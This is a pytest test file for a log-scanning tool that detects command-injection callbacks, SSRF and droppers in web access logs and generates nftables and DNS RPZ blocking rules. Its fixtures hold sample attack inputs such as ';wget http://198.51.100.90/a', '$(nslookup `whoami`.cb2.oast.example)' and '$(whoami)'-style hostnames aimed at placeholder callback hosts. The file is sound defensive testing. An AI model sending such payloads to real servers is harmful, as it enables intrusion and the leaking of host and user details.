"""Callbacks: DNS-only lookups, names built at run time, server-side fetches, open redirects, and
what the report and the rules say about them (issue 12)."""

from __future__ import annotations

import json
import shutil
import subprocess

import pytest
from hypothesis import given
from hypothesis import strategies as st

import dropscan
from conftest import vhost_line
from dropscan.cli import app
from dropscan.detect.egress import Destination, from_argv, from_url, normalise_host, runtime_suffix
from dropscan.detect.findings import Finding
from dropscan.detect.scanner import Scanner
from dropscan.detect.signatures import Example
from dropscan.formats.logformat import compile_format
from dropscan.outputs.render import render
from dropscan.report.egress_report import build_report
from dropscan.report.rules import RPZ_FILE, egress_rules
from dropscan.selftest import example_line


@pytest.mark.parametrize(
    ("host", "want"),
    [
        ("$(whoami).cb.oast.example", "cb.oast.example"),
        ("`id`.cb.oast.example", "cb.oast.example"),
        ("whoami`.cb.oast.example", "cb.oast.example"),  # the leading backtick stripped as a quote
        ("${env:USER}.cb.oast.example", "cb.oast.example"),
        ("%USERNAME%.cb.oast.example", "cb.oast.example"),
        ("$USER.cb.oast.example", "cb.oast.example"),
        ("304304..uri.cb.oast.example", "uri.cb.oast.example"),  # ${:-304}${:-304}.${hostName}.uri...
        (".cb.oast.example", "cb.oast.example"),  # ${hostName}.cb...: the lookup resolved to nothing
        ("x$(id)y.cb.example", "cb.example"),  # the label holding the substitution is partly unknown
        ("$(id).com", ""),  # one label names no one
        ("$(id)", ""),
        ("cb.oast.example", None),
        ("fe80::1%eth0", None),
    ],
)
def test_runtime_suffix(host, want):
    assert runtime_suffix(host) == want


@given(st.text(alphabet="abc.$()`{}%-:0123456789", max_size=40))
def test_runtime_suffix_is_a_name_the_host_ends_with(host):
    s = runtime_suffix(host)
    if s:
        assert host.lower().rstrip(".").endswith(s) or host.lower().endswith(s)
        assert "." in s and normalise_host(s) == (s, False)


def test_names_built_at_run_time_are_wildcards():
    d = from_url("http://$(whoami).cb.oast.example/x")
    assert (d.host, d.port, d.scheme, d.wildcard) == ("cb.oast.example", 80, "http", True)
    assert d.endpoint() == "http://*.cb.oast.example:80"
    assert d.as_dict()["wildcard"] is True
    assert from_url("ldap://.cb.oast.example/a").wildcard
    assert not from_url("http://cb.oast.example/x").wildcard
    assert from_url("http://$(id)/x") is None


@pytest.mark.parametrize(
    ("tool", "args", "want"),
    [
        ("ping", "-c 1 cb.oast.example", ("cb.oast.example", 53, "dns", False)),
        ("ping", "-nc 2 `whoami`.cb.oast.example", ("cb.oast.example", 53, "dns", True)),
        ("ping", "-c 1 198.51.100.8", ("198.51.100.8", None, "icmp", False)),
        ("nslookup", "cb.oast.example 8.8.8.8", ("cb.oast.example", 53, "dns", False)),
        ("dig", "@198.51.100.53 -t txt cb.oast.example", ("cb.oast.example", 53, "dns", False)),
        ("host", "-t a cb.oast.example", ("cb.oast.example", 53, "dns", False)),
        ("getent", "hosts cb.oast.example", ("cb.oast.example", 53, "dns", False)),
    ],
)
def test_lookup_tools_name_what_they_resolve(tool, args, want):
    (d,) = from_argv(tool, args, None)
    assert (d.host, d.port, d.scheme, d.wildcard) == want


@pytest.mark.parametrize(("tool", "args"), [("nslookup", "198.51.100.8"), ("getent", "passwd root"), ("ping", "-c 1")])
def test_lookups_without_a_name_have_no_destination(tool, args):
    assert from_argv(tool, args, None) == []


def test_old_records_without_wildcard_still_read():
    rec = Finding(
        "a.log",
        1,
        0,
        None,
        None,
        None,
        None,
        None,
        None,
        None,
        None,
        None,
        "target",
        "",
        ["x"],
        "rce",
        "high",
        [Destination("cb.oast.example", 53, "dns", False, None, True)],
    ).to_record()
    assert rec["egress"][0]["wildcard"] is True
    assert Finding.from_record(json.loads(json.dumps(rec))).egress[0].wildcard
    del rec["egress"][0]["wildcard"]
    assert Finding.from_record(rec).egress[0].wildcard is False


def _finding(sigs, target: str):
    f, _ = Scanner(sigs, fast=False).scan_line(example_line(Example("target", target)), compile_format("combined"))
    return f


@pytest.mark.parametrize(
    ("target", "severity", "egress"),
    [
        ("/x?url=http://cb.oast.example/", "high", ["http://cb.oast.example:80"]),
        ("/x?url=http://127.0.0.1:8080/admin", "medium", []),  # the server's own address: no egress
        ("/x?url=http://10.1.2.3/", "medium", []),
    ],
)
def test_ssrf_is_high_only_with_an_external_destination(sigs, target, severity, egress):
    f = _finding(sigs, target)
    assert (f.category, f.severity, [d.endpoint() for d in f.egress]) == ("ssrf", severity, egress)


@pytest.mark.parametrize(
    "target",
    [
        "/login?came_from=http%3A%2F%2Fpartner.example%2F",
        "/x?redirect=https://partner.example/",
        "/x?next=https://partner.example/",
        "/x?return=https://partner.example/",
        "/x?returnTo=https://partner.example/",
        "/x?goto=https://partner.example/",
        "/x?continue=https://partner.example/",
        "/x?r=https://partner.example/",
        "/x?redirect_url=https://partner.example/&return_uri=https://partner.example/",
    ],
)
def test_open_redirects_are_no_egress(sigs, target):
    f = _finding(sigs, target)
    assert f is None or not f.egress


# --- report and rules -------------------------------------------------------------------------
@pytest.fixture
def callback_log(tmp_path):
    log = tmp_path / "access.log"
    log.write_bytes(
        vhost_line("web1.example.com", "/x?c=;ping%20-c%201%20cb1.oast.example", client="203.0.113.70")
        + vhost_line("web1.example.com", "/x?c=$(nslookup%20`whoami`.cb2.oast.example)", client="203.0.113.71")
        + vhost_line("web1.example.com", "/x?c=;wget%20http://198.51.100.90/a", client="203.0.113.72")
        + vhost_line("web2.example.com", "/x?svrurl=http://cb3.oast.example", client="203.0.113.73")
    )
    return log


def test_report_says_via_resolver(callback_log):
    rep = build_report(dropscan.scan(callback_log))
    d = rep.as_dict()
    web1, web2 = d["hosts"]
    assert web1["host"] == "web1.example.com" and web1["needs_egress_blocking"] and web1["via_resolver"] == 2
    dests = {(x["host"], x["scheme"], x["wildcard"], x["via_resolver"]) for x in web1["destinations"]}
    assert dests == {
        ("cb1.oast.example", "dns", False, True),
        ("cb2.oast.example", "dns", True, True),
        ("198.51.100.90", "http", False, False),
    }
    assert web2["needs_egress_blocking"] and web2["categories"] == {"ssrf": 1}  # SSRF counts like droppers
    assert d["summary"]["via_resolver_destinations"] == 2
    table = render(rep, "table")
    assert "*.cb2.oast.example" in table and "via resolver" in table
    assert "cb1.oast.example CNAME ." in table and "*.cb2.oast.example CNAME ." in table
    for fmt in ("markdown", "html"):
        assert "sinkhole" in render(rep, fmt) and "cb1.oast.example CNAME ." in render(rep, fmt)


def test_rules_send_callbacks_to_the_resolver(callback_log, tmp_path):
    rep = build_report(dropscan.scan(callback_log))
    files = egress_rules(rep, "nftables", "33")
    assert list(files) == ["dropscan-egress.nft", RPZ_FILE]
    nft = files["dropscan-egress.nft"]
    header = nft.split("DNS callbacks, via resolver", 1)[1].split("\ntable", 1)[0]
    assert "NO rule in this file stops them" in header
    assert "cb1.oast.example: dns:53 (1) on web1.example.com" in header
    assert "#   *.cb2.oast.example: dns:53 (1) on web1.example.com" in header
    assert "#   *.cb2.oast.example CNAME ." in header
    rules = [ln for ln in nft.splitlines() if not ln.lstrip().startswith("#")]
    assert not any("oast" in ln or "53" in ln for ln in rules)  # no rule pretends to stop a lookup
    assert "198.51.100.90," in nft  # the dropper's IP is still rejected
    if shutil.which("nft"):
        f = tmp_path / "x.nft"
        f.write_text(nft)
        p = subprocess.run(["nft", "-c", "-f", str(f)], capture_output=True, text=True, timeout=60)
        assert p.returncode == 0 or "Operation not permitted" in p.stderr, p.stderr


def test_rpz_zone_is_a_valid_zone(callback_log):
    dns_zone = pytest.importorskip("dns.zone")
    text = egress_rules(build_report(dropscan.scan(callback_log)), "iptables", "33")[RPZ_FILE]
    zone = dns_zone.from_text(text, origin="rpz.dropscan.", relativize=True)
    names = sorted(str(n) for n in zone.nodes if str(n) != "@")
    # names in an RPZ zone are relative to it; each CNAME . answers NXDOMAIN
    assert names == ["*.cb1.oast.example", "*.cb2.oast.example", "cb1.oast.example", "cb2.oast.example"]
    cnames = [(str(n), str(rd)) for n, _ttl, rd in zone.iterate_rdatas("CNAME")]
    assert sorted(cnames) == [(n, ".") for n in names]


def test_cli_rules_writes_the_rpz_zone_only_to_a_directory(runner, callback_log, tmp_path):
    out = tmp_path / "fw"
    r = runner.invoke(app, ["rules", str(callback_log), "--firewall", "nftables", "--user", "33", "-d", str(out)])
    assert r.exit_code == 0  # it wrote what was asked
    assert sorted(p.name for p in out.iterdir()) == [RPZ_FILE, "dropscan-egress.nft"]
    r = runner.invoke(app, ["rules", str(callback_log), "--firewall", "nftables", "--user", "33"])
    assert "# =====" not in r.stdout and "$TTL" not in r.stdout  # stdout stays one loadable nft file
